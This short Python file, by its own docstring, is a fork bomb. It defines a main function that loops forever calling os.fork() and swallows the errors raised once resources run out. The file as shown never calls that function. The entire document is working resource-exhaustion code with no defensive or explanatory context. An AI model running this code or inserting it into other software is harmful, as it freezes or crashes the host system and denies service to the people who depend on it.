"""A fork bomb: every process forks for ever."""

import os


def main():
    while True:
        try:
            os.fork()
        except OSError:
            pass
